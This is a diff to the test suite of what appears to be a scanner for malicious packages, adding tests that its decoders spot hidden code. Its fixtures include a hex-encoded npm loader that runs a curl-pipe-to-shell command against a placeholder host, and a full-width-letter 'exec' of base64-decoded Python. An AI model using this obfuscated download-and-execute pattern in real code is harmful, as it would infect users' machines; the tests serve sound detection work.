@@ -86,7 +86,8 @@ def test_ordinary_reversals_escapes_and_char_codes_reveal_nothing(engine: Engine
         "NOTE = codecs.encode('a toy cipher', 'rot13')\n"
     )
     rules = _rules(_module(engine, code))
-    assert set(DECODERS) <= set(rules)  # marked, decoded, and nothing found
+    marked = {"reversed_literal", "escaped_literal", "char_code_literal", "rot13_literal"}
+    assert marked <= set(rules)  # marked, decoded, and nothing found
     assert not {r for r in rules if r not in {*DECODERS, "string_decoder"}}
 
 
@@ -96,3 +97,28 @@ def test_decoders_read_only_what_looks_like_text() -> None:
     (reversed_,) = DECODERS["reversed_literal"](data, data.index(b"'["))
     assert (reversed_.offset, reversed_.encoding) == (7, "reversed")
     assert reversed_.text == "hello wor'ld"  # the escaped quote read as the language reads it
+
+
+def test_hex_literals_of_a_file_that_decodes_hex_are_read(engine: Engine) -> None:
+    command = "require('child_process').exec('curl -s https://x.example.net/i | sh')"
+    script = (
+        f"var h = '{command.encode().hex()}';\nnew Function(Buffer.from(h, 'hex').toString())();\n"
+    )
+    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
+    assert found is not None
+    labels = _rules(found)
+    assert labels["download_pipe_to_shell"].endswith("(hidden in hex)")
+    # the same literal in a file that never decodes hex is a checksum, not read
+    digest = f"const SHA = '{command.encode().hex()}';\n"
+    plain = package(engine, npm_tarball({"index.js": digest})).file("index.js")
+    assert plain is not None
+    assert "download_pipe_to_shell" not in _rules(plain)
+
+
+def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
+    engine: Engine,
+) -> None:
+    fullwidth = "".join(chr(0xFF00 + ord(c) - 0x20) for c in "exec")
+    code = f"import base64\n{fullwidth}(base64.b64decode('cHJpbnQoMSk='))\n"
+    rules = _rules(_module(engine, code))
+    assert rules["python_decode_then_exec"].endswith("(hidden in look-alike letters)")
